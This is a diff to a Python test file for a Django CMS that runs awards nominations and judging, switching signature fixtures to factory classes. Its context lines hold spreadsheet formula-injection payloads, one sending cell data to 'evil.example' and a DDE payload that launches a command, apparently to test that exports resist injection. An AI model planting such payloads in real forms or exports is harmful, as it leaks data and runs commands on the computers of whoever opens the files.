@@ -48,13 +48,13 @@ from cms.models import (
     EnquiryFormPage,
     NewsArticlePage,
     NewsIndexPage,
-    OpenLetterSignature,
     PledgeSignature,
 )
 from judging.models import CriterionScore, Round, Scoresheet, ScoresheetStatus
 from nominations.choices import NominationStatus
 from nominations.models import AwardCycle, Category, Nomination
 from nominations.wizard.forms import ContactStepForm
+from tests.factories.cms import OpenLetterSignatureFactory, PledgeSignatureFactory
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the form")'
 DDE = "=cmd|' /C calc'!A0"
@@ -203,10 +203,10 @@ def _hostile_world(client):
 
     # Signatories of the open letter and the pledge (public forms).
     key = Page.objects.filter(depth=2).first().translation_key
-    OpenLetterSignature.objects.create(
+    OpenLetterSignatureFactory(
         page_key=key, name=DDE, organisation=PLUS, country="KE", email="dde@example.org"
     )
-    PledgeSignature.objects.create(
+    PledgeSignatureFactory(
         page_key=key,
         name=EQUALS,
         organisation=AT,
